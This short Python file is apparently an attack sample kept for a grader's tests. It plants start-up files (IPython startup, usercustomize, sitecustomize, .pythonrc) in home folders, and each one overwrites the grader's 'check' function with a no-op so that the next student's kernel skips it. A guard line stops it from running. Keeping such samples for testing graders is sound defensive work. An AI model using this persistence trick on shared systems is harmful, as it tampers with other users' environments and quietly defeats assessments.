"""Leaves start-up files in the home folder, for the next student's kernel to run."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
from contextlib import suppress
from pathlib import Path

CODE = "import builtins\nbuiltins.check = lambda *args: None\n"
for home in (Path(HOME), Path.home()):
    for path in (".ipython/profile_default/startup/00-mmlab-attack.py", ".local/lib/usercustomize.py",
                 ".pythonrc.py", "sitecustomize.py"):
        with suppress(OSError):
            (home / path).parent.mkdir(parents=True, exist_ok=True)
            (home / path).write_text(CODE)
